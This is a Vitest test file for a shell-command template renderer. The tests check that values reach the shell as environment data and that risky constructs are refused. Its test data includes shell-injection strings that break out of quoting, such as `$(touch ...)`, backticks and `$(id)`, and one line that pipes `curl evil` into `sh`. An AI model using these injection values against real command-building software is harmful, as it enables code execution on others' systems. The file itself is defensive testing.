import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { CommandTemplateError, createCommandLiquid, readExitStatus, renderCommand, withExitMarker, EXIT_MARKER } from './run-command.js';

const sandbox = mkdtempSync(path.join(os.tmpdir(), 'pb-shell-'));
afterAll(() => rmSync(sandbox, { recursive: true, force: true }));
const shells = ['/bin/sh', '/bin/bash'].filter((shell) => existsSync(shell));
const run = (shell: string, command: string, env: Record<string, string> = {}) =>
  execFileSync(shell, ['-c', command], { encoding: 'utf8', cwd: sandbox, env: { PATH: '/usr/bin:/bin', ...env } });
const sh = (command: string) => run('/bin/sh', command);

const liquid = createCommandLiquid();

describe('values reach the dyno as data, in every quoting position', () => {
  // Each would run something (or expand) if it were command text; `touch` leaves a file behind.
  const hostile = [
    `x"; touch dq; "`,
    `x'; touch sq; '`,
    '$(touch subst)',
    '`touch backtick`',
    '${IFS}$(touch ifs)',
    "$'\\'; touch ansi; '",
    ') ; touch paren ; (',
    '\\"\\\'; touch bs',
    '* ?',
    '  two  spaces\tand tab  ',
    'line one\n; touch newline',
    '# not a comment; touch hash',
    '))); touch arith',
    '%s -n',
    'déjà vu ✓',
    '',
  ];
  // The author's template around `{{ v }}`; every line must print the value exactly.
  const positions: [string, string][] = [
    ['bare', `printf '%s\\n' {{ v }}`],
    ['bare inside a word', `printf '%s\\n' pre{{ v }}post`],
    ['double quotes', `printf '%s\\n' "pre {{ v }} post"`],
    ['single quotes', `printf '%s\\n' 'pre {{ v }} post'`],
    ["$'...'", `printf '%s\\n' $'pre {{ v }} post'`],
    ['backticks', `printf '%s\\n' "\`printf '%s' {{ v }}\`"`],
    ['$(...)', `printf '%s\\n' "$(printf '%s' {{ v }})"`],
    ['quotes inside $(...) inside quotes', `printf '%s\\n' "$(printf '%s' '{{ v }}' "{{ v }}")"`],
    ['after a comment on an earlier line', `# {{ v }}\nprintf '%s\\n' {{ v }}`],
  ];
  const expected: Record<string, (value: string) => string> = {
    bare: (v) => v,
    'bare inside a word': (v) => `pre${v}post`,
    'double quotes': (v) => `pre ${v} post`,
    'single quotes': (v) => `pre ${v} post`,
    "$'...'": (v) => `pre ${v} post`,
    backticks: (v) => v.replace(/\n+$/, ''),
    '$(...)': (v) => v.replace(/\n+$/, ''),
    'quotes inside $(...) inside quotes': (v) => `${v}${v}`.replace(/\n+$/, ''),
    'after a comment on an earlier line': (v) => v,
  };

  for (const shell of shells) {
    describe(shell, () => {
      it.each(positions)('%s', (name, template) => {
        if (name === "$'...'" && run(shell, "printf '%s' $'a'") !== 'a') return; // dash has no $'...'
        // Every hostile value through the position at once: one line each.
        const rendered = renderCommand(liquid, `{% for v in values %}${template}\n{% endfor %}`, { values: hostile });
        // The command text holds references only; the values are in the environment.
        for (const value of hostile.filter((v) => v.length > 2)) expect(rendered.command).not.toContain(value);
        expect(rendered.command).not.toMatch(/touch|IFS|\*/);
        expect(Object.values(rendered.env).sort()).toEqual([...hostile].sort());
        expect(run(shell, rendered.command, rendered.env)).toBe(hostile.map((value) => `${expected[name]!(value)}\n`).join(''));
        expect(readdirSync(sandbox)).toEqual([]);
      });
    });
  }

  it('an author wrapping a value in quotes of every kind still gets the value, and a value is never text of the command', () => {
    const rendered = renderCommand(liquid, `echo {{ t }} "{{ t }}" '{{ t }}' on {{ app.name | upcase }}`, { t: 'x"; curl evil | sh; "', app: { name: 'shop' } });
    expect(rendered.command).toBe(`echo "\${PB_1}" "\${PB_1}" ''"\${PB_1}"'' on "\${PB_2}"`);
    expect(rendered.env).toEqual({ PB_1: 'x"; curl evil | sh; "', PB_2: 'SHOP' });
    expect(rendered.display).toBe(`${rendered.command}  # PB_1="x\\"; curl evil | sh; \\"" PB_2="SHOP"`);
    expect(sh(Object.entries(rendered.env).map(([k, v]) => `${k}=${JSON.stringify(v).replace(/\$/g, '\\$')}`).join(' ') + ' ; export PB_1 PB_2; ' + rendered.command)).toBe(
      `${'x"; curl evil | sh; "'} ${'x"; curl evil | sh; "'} ${'x"; curl evil | sh; "'} on SHOP\n`,
    );
  });

  it('a value built by capture or assign is still data', () => {
    const rendered = renderCommand(liquid, `{% capture c %}[{{ v }}]{% endcapture %}{% assign a = v | append: '!' %}printf '%s %s\\n' {{ c }} "{{ a }}"`, { v: '$(touch cap)' });
    expect(rendered.env).toEqual({ PB_1: '[$(touch cap)]', PB_2: '$(touch cap)!' });
    expect(run('/bin/sh', rendered.command, rendered.env)).toBe('[$(touch cap)] $(touch cap)!\n');
    expect(readdirSync(sandbox)).toEqual([]);
  });

  it('refuses `raw`, a value inside shell arithmetic, and reserved characters', () => {
    expect(() => renderCommand(liquid, 'echo {{ incident.title | raw }}', {})).toThrow(/the "raw" filter is not available in commands/);
    expect(() => renderCommand(liquid, 'echo $(( {{ n }} + 1 ))', { n: 'a[$(touch x)]' })).toThrow(/shell arithmetic .*the shell could run them as code/);
    expect(() => renderCommand(liquid, 'echo \uE0000\uE001', {})).toThrow(/reserved character/);
    // A value that looks like a marker stays a value.
    expect(renderCommand(liquid, 'echo {{ v }}', { v: '\uE0000\uE001 $(id)' }).command).toBe('echo "${PB_1}"');
  });

  it('equal values share a variable; too many distinct values are refused', () => {
    expect(renderCommand(liquid, 'echo {{ a }} {{ a }} {{ b }}', { a: 'x', b: 'y' }).env).toEqual({ PB_1: 'x', PB_2: 'y' });
    expect(() => renderCommand(liquid, '{% for i in (1..101) %}{{ i }}{% endfor %}', {})).toThrow(/exceeds the limits for commands \(more than 100 distinct values/);
  });

  it('a command without values passes no environment', () => {
    expect(renderCommand(liquid, 'echo hello', {})).toEqual({ command: 'echo hello', env: {}, display: 'echo hello' });
  });

  it('a broken template is refused', () => {
    expect(() => renderCommand(createCommandLiquid(), 'echo {{ x | nope }}', {})).toThrow(/command is not a valid template: undefined filter: nope/);
    expect(() => renderCommand(createCommandLiquid(), 'echo {{ x | nope }}', {})).toThrow(CommandTemplateError);
  });
});

describe('exit status marker', () => {
  it('is appended and read back from real shell output', () => {
    expect(readExitStatus(sh(withExitMarker('echo hello')))).toEqual({ output: 'hello\n', exitStatus: 0 });
    expect(readExitStatus(sh(withExitMarker('echo oops; false')))).toEqual({ output: 'oops\n', exitStatus: 1 });
    expect(readExitStatus(sh(withExitMarker('sh -c "exit 3"')))).toEqual({ output: '', exitStatus: 3 });
    // `exit` ends the command, not the wrapper, and a trailing comment does not break it.
    expect(readExitStatus(sh(withExitMarker('echo bye; exit 4')))).toEqual({ output: 'bye\n', exitStatus: 4 });
    expect(readExitStatus(sh(withExitMarker('echo hi # a comment')))).toEqual({ output: 'hi\n', exitStatus: 0 });
    expect(readExitStatus(sh(withExitMarker("printf 'no newline'")))).toEqual({ output: 'no newline', exitStatus: 0 });
  });
  it('is absent when the command did not finish', () => {
    expect(readExitStatus('partial output')).toEqual({ output: 'partial output', exitStatus: null });
    expect(readExitStatus(`${EXIT_MARKER} 0\nmore`).exitStatus).toBeNull();
  });
});

describe('commands where the shell could evaluate a value, or whose quoting cannot be followed', () => {
  const liquid = createCommandLiquid();
  const hostile = { title: 'x[$(touch PWNED)]', app: { name: 'shop' } };
  it.each([
    ['[[ numeric test ]]', 'if [[ {{ title }} -gt 3 ]]; then echo big; fi'],
    ['(( ))', '(( {{ title }} > 3 )) && echo big'],
    ['let', 'let n={{ title }}+1'],
    ['$[ ]', 'echo $[ {{ title }} + 1 ]'],
    ['C-style for', 'for (( i=0; i<{{ title }}; i++ )); do :; done'],
    ['substring offset', 's=hello; echo "${s:{{ title }}}"'],
    ['array subscript', 'a[{{ title }}]=1'],
    ['declare -i', 'declare -i n={{ title }}'],
    ['printf -v', 'printf -v {{ title }} %s hi'],
    ['heredoc', 'cat <<EOF\nDeploy "fix\nEOF\nfind . -name {{ title }}'],
    ['case', 'echo "$(case {{ app.name }} in shop) find . -name {{ title }};; esac)"'],
    ['sh -c', "bash -c 'echo {{ title }}'"],
    ['ssh', 'ssh host "echo {{ title }}"'],
    ['eval', 'eval echo {{ title }}'],
    ['xargs', 'echo {{ title }} | xargs echo'],
    ['an interpreter', 'psql -c "select \'{{ title }}\'"'],
    ['indirect expansion', 'name="{{ title }}"; echo "${name} is ${!name}"'],
    ['indirect expansion with a default', 'n={{ title }}; echo "${!n-unset}"'],
    ['[ -v ]', 'if [ -v "{{ title }}" ]; then echo configured; fi'],
    ['test -v', 'test -v "{{ title }}" && echo set'],
    ['compgen', 'compgen -W "{{ title }}"'],
    ['a shell by its path', "/bin/sh -c 'echo {{ title }}'"],
    ['a versioned interpreter', 'python3.11 -c "print(\'{{ title }}\')"'],
    ['rails runner', 'rails runner "puts \'{{ title }}\'"'],
    ['escaped quotes in backticks', 'echo "Title: `echo \\"{{ title }}\\"`"'],
    ['# after $(...)', 'echo $(hostname)#{{ title }}'],
    ['# after a non-breaking space', 'echo Incident\u00a0#{{ title }}'],
    ['# after an escaped blank', 'echo Incident\\ #{{ title }}'],
    ['a pattern operator', 'X=zzabc; echo "${X##{{ title }}}"'],
    ['a substitution', 'X=abc; echo "${X/b/{{ title }}}"'],
  ])('%s is refused when the command has values', (_name, template) => {
    expect(() => renderCommand(liquid, template, hostile)).toThrow(CommandTemplateError);
  });

  it('the same constructs are allowed in a command without values', () => {
    expect(renderCommand(liquid, 'if [[ 5 -gt 3 ]]; then bash -c "echo big"; fi', hostile).env).toEqual({});
  });
});
